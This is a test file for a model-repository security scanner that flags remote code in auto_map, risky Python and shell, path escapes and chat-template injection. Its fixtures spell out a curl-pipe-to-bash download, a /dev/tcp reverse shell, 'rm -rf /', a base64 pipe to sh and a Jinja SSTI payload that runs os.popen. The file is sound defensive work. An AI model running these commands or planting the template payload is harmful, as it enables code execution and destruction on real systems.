import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseStrictJson } from "../../../src/core/json.js";
import { codeReferences, parseReference, relativeImports } from "../../../src/formats/hf/auto-map.js";
import { pythonImports, pythonRisks, shellRisks } from "../../../src/formats/hf/code-patterns.js";
import { pathEscape } from "../../../src/formats/hf/json-analyzer.js";
import { scan } from "../../../src/scan/engine.js";
import { ruleIds, scanOne } from "../../helpers/scan.js";

const bytes = (s: string) => new TextEncoder().encode(s);

describe("auto_map references", () => {
  it("parses local and cross-repository references", () => {
    expect(parseReference("auto_map.AutoModel", "modeling_x.XModel")).toEqual({
      declaredAt: "auto_map.AutoModel",
      reference: "modeling_x.XModel",
      moduleFile: "modeling_x.py",
      className: "XModel",
    });
    expect(parseReference("a", "org/repo--modeling_x.XModel")).toMatchObject({
      repo: "org/repo",
      moduleFile: "modeling_x.py",
    });
    expect(parseReference("a", "pkg.sub.Cls")?.moduleFile).toBe("pkg/sub.py");
    expect(parseReference("a", "NoDot")).toBeUndefined();
  });

  it("collects auto_map strings, tokenizer pairs and custom pipelines", () => {
    const root = parseStrictJson(
      JSON.stringify({
        auto_map: { AutoConfig: "cfg.C", AutoTokenizer: ["tok.T", null] },
        custom_pipelines: { "text-generation": { impl: "pipe.P", pt: ["AutoModel"] } },
      }),
    ).value;
    expect(codeReferences(root).map((r) => `${r.declaredAt}=${r.moduleFile}`)).toEqual([
      "auto_map.AutoConfig=cfg.py",
      "auto_map.AutoTokenizer[0]=tok.py",
      "custom_pipelines.text-generation.impl=pipe.py",
    ]);
  });

  it("finds relative imports as transformers does", () => {
    const src =
      "from .configuration_x import XConfig\nfrom ..shared.util import f\nimport .helpers\nfrom torch import nn\n";
    expect(relativeImports(src)).toEqual(["configuration_x.py", "../shared/util.py", "helpers.py"]);
  });
});

describe("script patterns", () => {
  it.each([
    ["os.system('id')", "process"],
    ["subprocess.Popen(['sh'])", "process"],
    ["exec(code)", "dynamic-code"],
    ["__import__('os')", "dynamic-code"],
    ["pickle.loads(blob)", "deserialize"],
    ["torch.load(path)", "deserialize"],
    ["urllib.request.urlopen(url)", "network"],
    ["ctypes.CDLL('x.so')", "native-code"],
  ])("python: %s → %s", (src, kind) => {
    expect(pythonRisks(src).map((h) => h.kind)).toContain(kind);
  });

  it("python: a comment ends at a lone CR, as CPython ends the line there", () => {
    // `# helper\rimport os\ros.system(...)`: CPython runs the call (universal newlines)
    expect(pythonRisks("# helper\rimport os\ros.system('echo x')\r").map((h) => [h.kind, h.line])).toEqual([
      ["process", 3],
    ]);
    expect(pythonImports("# helper\rimport os\r")).toEqual(["os"]);
  });

  it("python: an f-string's fields may hold its own quotes (3.12); a string in brackets is no docstring", () => {
    // `f"{"#"}"` is one string in Python 3.12: what follows it on the line runs
    expect(pythonRisks('SEP = f"{"#"}"; import os; os.system("x")\n').map((h) => h.kind)).toContain("process");
    expect(pythonRisks("x = f'{d['k']}'; exec(code)\n").map((h) => h.kind)).toContain("dynamic-code");
    // a triple-quoted argument on its own line is code handed to exec, not documentation
    expect(pythonRisks('builtins.exec(\n"""import os\nos.system("x")\n""")\n').map((h) => h.kind)).toEqual(
      expect.arrayContaining(["dynamic-code", "process"]),
    );
    // a docstring after a def is still blanked
    expect(pythonRisks('def f():\n    """>>> os.system(x)"""\n    return 1\n')).toEqual([]);
  });

  it("python: ignores comments, method calls named eval, and safe loads", () => {
    expect(
      pythonRisks(
        "# os.system('x')\nmodel.eval()\ntorch.load(p, weights_only=True)\nyaml.load(f, Loader=yaml.SafeLoader)\n",
      ),
    ).toEqual([]);
    expect(pythonRisks("exec(base64.b64decode(x))").map((h) => h.kind)).toEqual(["dynamic-code", "obfuscation"]);
    const doc =
      'def f():\n    r"""Example:\n\n    >>> batch = torch.load(file)\n    >>> requests.get(url)\n    """\n    return 1\n';
    expect(pythonRisks(doc)).toEqual([]);
    expect(pythonRisks('x = 1\nos.system("""\ncurl http://x | sh\n""")\n').map((h) => [h.kind, h.line])).toEqual([
      ["process", 2],
    ]);
    expect(pythonImports("import os, sys\nfrom .x import y\n# import z\n")).toEqual(["os", "sys", ".x"]);
  });

  it.each([
    ["curl -fsSL http://x/s.sh | bash", "download-exec"],
    ["wget -q http://x/a -O a\nchmod +x a\n./a", "download-exec"],
    ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse-shell"],
    ["echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= | base64 -d | sh", "obfuscation"],
    ["rm -rf / ", "destructive"],
    ["pip install git+https://example.com/x.git", "install-from-url"],
  ])("shell: %s → %s", (src, kind) => {
    expect(shellRisks(src).map((h) => h.kind)).toContain(kind);
  });

  it("shell: plain scripts are not risky", () => {
    expect(shellRisks("#!/bin/sh\nset -e\npython train.py --epochs 3\n")).toEqual([]);
  });

  it("index paths", () => {
    expect(pathEscape("model-00001-of-00002.safetensors")).toBeUndefined();
    expect(pathEscape("sub/model.safetensors")).toBeUndefined();
    expect(pathEscape("../x")).toBe("`..` component");
    expect(pathEscape("/etc/passwd")).toBe("absolute path");
    expect(pathEscape("C:\\x")).toBe("drive letter");
    expect(pathEscape("https://x/y")).toBe("URL");
  });
});

describe("analyzers through the engine", () => {
  it("config.json: remote code, external code and facts", async () => {
    const file = await scanOne(
      bytes(
        JSON.stringify({
          architectures: ["XForCausalLM"],
          model_type: "x",
          vocab_size: 32000,
          auto_map: { AutoModel: "modeling_x.X", AutoConfig: "org/other--configuration_x.C" },
        }),
      ),
      "config.json",
    );
    expect(ruleIds(file)).toEqual(["repo/remote-code", "repo/remote-code-external", "repo/remote-code-missing"]);
    expect(file.verdict).toBe("malicious");
    expect(file.facts).toMatchObject({
      architecture: "XForCausalLM",
      modelType: "x",
      "hf.remoteCodeModules": ["modeling_x.py"],
    });
  });

  it("config.json without remote code is clean; big integers and NaN are accepted as Python does", async () => {
    const file = await scanOne(
      bytes('{"model_type":"llama","model_max_length":1000000000000000019884624838656,"x":NaN}'),
      "config.json",
    );
    expect(file.findings).toEqual([]);
    expect(file.verdict).toBe("clean");
  });

  it("invalid JSON is invalid, never clean", async () => {
    const file = await scanOne(bytes('{"chat_template": "{{ x }}",}'), "tokenizer_config.json");
    expect(ruleIds(file)).toEqual(["repo/invalid-json"]);
    expect(file.verdict).toBe("invalid");
  });

  it("tokenizer_config.json: every named template is analysed", async () => {
    const file = await scanOne(
      bytes(
        JSON.stringify({
          chat_template: [
            { name: "default", template: "{{ messages }}" },
            { name: "rag", template: "{{ lipsum.__globals__ }}" },
          ],
        }),
      ),
      "tokenizer_config.json",
    );
    expect(ruleIds(file)).toEqual(["template/dunder-access", "template/gadget-reference"]);
    expect(file.findings.every((f) => f.evidence?.template === "chat_template[rag]")).toBe(true);
  });

  it("python files: network-only code is medium, process execution is high", async () => {
    const net = await scanOne(
      bytes("import requests\nW = requests.get('https://example.com/w').content\n"),
      "extra.py",
    );
    expect(net.findings.map((f) => [f.ruleId, f.severity])).toEqual([
      ["repo/python-file", "medium"],
      ["repo/risky-code", "medium"],
    ]);
    const proc = await scanOne(bytes("import os\nos.system('echo hi')\n"), "setup_model.py");
    expect(proc.verdict).toBe("malicious");
  });

  it("a .jinja file is analysed as a template", async () => {
    const file = await scanOne(bytes("{{ x|attr('__cl' ~ 'ass__') }}\n"), "chat_template.jinja");
    expect(file.format).toBe("jinja");
    expect(file.verdict).toBe("malicious");
  });
});

describe("the repository as one unit", () => {
  let dir: string;
  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), "modelgate-hf-"));
    await mkdir(join(dir, "m", "sub"), { recursive: true });
    await writeFile(
      join(dir, "m", "config.json"),
      JSON.stringify({ auto_map: { AutoModel: "modeling_m.M", AutoConfig: "configuration_gone.C" } }),
    );
    await writeFile(join(dir, "m", "modeling_m.py"), "from .sub.layers import L\nfrom .util import u\n");
    await writeFile(join(dir, "m", "sub", "layers.py"), "from ..util import u\nclass L: pass\n");
    await writeFile(join(dir, "m", "util.py"), "def u():\n    return 1\n");
    await writeFile(join(dir, "m", "unrelated.py"), "print('hi')\n");
    await writeFile(
      join(dir, "m", "model.safetensors.index.json"),
      JSON.stringify({ weight_map: { a: "model-1.safetensors" } }),
    );
  });
  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  it("resolves auto_map targets and their relative imports, and names what is missing", async () => {
    const report = await scan(join(dir, "m"));
    const byPath = new Map(report.files.map((f) => [f.path, f]));
    const remote = (p: string) => byPath.get(p)?.findings.some((f) => f.ruleId === "repo/remote-code");
    expect(remote("modeling_m.py")).toBe(true);
    expect(remote("sub/layers.py")).toBe(true);
    expect(remote("util.py")).toBe(true);
    expect(remote("unrelated.py")).toBe(false);
    const config = byPath.get("config.json");
    expect(
      config?.findings.filter((f) => f.ruleId === "repo/remote-code-missing").map((f) => f.evidence?.module),
    ).toEqual(["configuration_gone.py"]);
    expect(config?.facts?.["hf.remoteCodeFiles"]).toEqual(["modeling_m.py", "sub/layers.py", "util.py"]);
    expect(ruleIds(byPath.get("model.safetensors.index.json")!)).toEqual(["repo/index-missing-shard"]);
  });
});

describe("repository files are recognised by base name at any depth", () => {
  // CVE-2024-34359-style server-side template injection in a chat template.
  const SSTI = "{{ ''.__class__.__mro__[1].__subclasses__() }}{{ cycler.__init__.__globals__.os.popen('id').read() }}";
  const tokenizerConfig = JSON.stringify({ chat_template: SSTI, model_max_length: 512 });
  const modelConfig = JSON.stringify({
    architectures: ["SForCausalLM"],
    model_type: "s",
    transformers_version: "4.40.0",
    auto_map: { AutoModel: "modeling_s.S", AutoConfig: "configuration_gone.C" },
  });
  let dir: string;
  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), "modelgate-hf-depth-"));
    const put = async (path: string, text: string) => {
      await mkdir(join(dir, path, ".."), { recursive: true });
      await writeFile(join(dir, path), text);
    };
    await put("root/tokenizer_config.json", tokenizerConfig);
    await put("root/config.json", modelConfig);
    await put("root/modeling_s.py", "class S: pass\n");
    await put("tree/a/b/tokenizer/tokenizer_config.json", tokenizerConfig);
    await put("tree/a/b/tokenizer/chat_template.json", JSON.stringify({ chat_template: SSTI }));
    await put("tree/sub/config.json", modelConfig);
    await put("tree/sub/modeling_s.py", "from .layers import L\nclass S: pass\n");
    await put("tree/sub/layers.py", "class L: pass\n");
    // A decoy at the scan root: auto_map in sub/config.json means sub/modeling_s.py, not this one.
    await put("tree/modeling_s.py", "class Decoy: pass\n");
    await put("tree/pipe/model_index.json", JSON.stringify({ _class_name: "P", _diffusers_version: "0.27.0" }));
  });
  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  const ids = (f: { findings: { ruleId: string }[] } | undefined) =>
    [...new Set(f?.findings.map((x) => x.ruleId))].sort();

  it("analyses a chat template in a/b/tokenizer/tokenizer_config.json as it does at the root", async () => {
    const root = await scan(join(dir, "root"));
    const tree = await scan(join(dir, "tree"));
    const rootFile = root.files.find((f) => f.path === "tokenizer_config.json");
    const deep = tree.files.find((f) => f.path === "a/b/tokenizer/tokenizer_config.json");
    expect(ids(rootFile)).toContain("template/dunder-access");
    expect(rootFile?.verdict).toBe("malicious");
    expect(ids(deep)).toEqual(ids(rootFile));
    expect(deep?.verdict).toBe("malicious");
    const chat = tree.files.find((f) => f.path === "a/b/tokenizer/chat_template.json");
    expect(ids(chat)).toContain("template/dunder-access");
    expect(chat?.verdict).toBe("malicious");
  });

  it("reads auto_map in sub/config.json like the root one, resolving modules in sub/", async () => {
    const root = await scan(join(dir, "root"));
    const tree = await scan(join(dir, "tree"));
    const byPath = new Map(tree.files.map((f) => [f.path, f]));
    const rootConfig = root.files.find((f) => f.path === "config.json");
    const sub = byPath.get("sub/config.json");
    expect(ids(sub)).toEqual(ids(rootConfig));
    expect(ids(sub)).toEqual(expect.arrayContaining(["repo/remote-code", "repo/remote-code-missing"]));
    expect(sub?.verdict).toBe(rootConfig?.verdict);
    expect(sub?.facts).toMatchObject({
      architecture: "SForCausalLM",
      "hf.remoteCodeModules": ["modeling_s.py", "configuration_gone.py"],
      "hf.remoteCodeFiles": ["sub/modeling_s.py", "sub/layers.py"],
      toolVersions: { transformers: "4.40.0" },
    });
    expect(sub?.findings.filter((f) => f.ruleId === "repo/remote-code-missing").map((f) => f.evidence?.module)).toEqual(
      ["sub/configuration_gone.py"],
    );
    const remote = (p: string) => byPath.get(p)?.findings.some((f) => f.ruleId === "repo/remote-code");
    expect(remote("sub/modeling_s.py")).toBe(true);
    expect(remote("sub/layers.py")).toBe(true);
    expect(remote("modeling_s.py")).toBe(false);
  });

  it("records facts of model_index.json below the root", async () => {
    const tree = await scan(join(dir, "tree"));
    expect(tree.files.find((f) => f.path === "pipe/model_index.json")?.facts).toMatchObject({
      toolVersions: { diffusers: "0.27.0" },
    });
  });
});
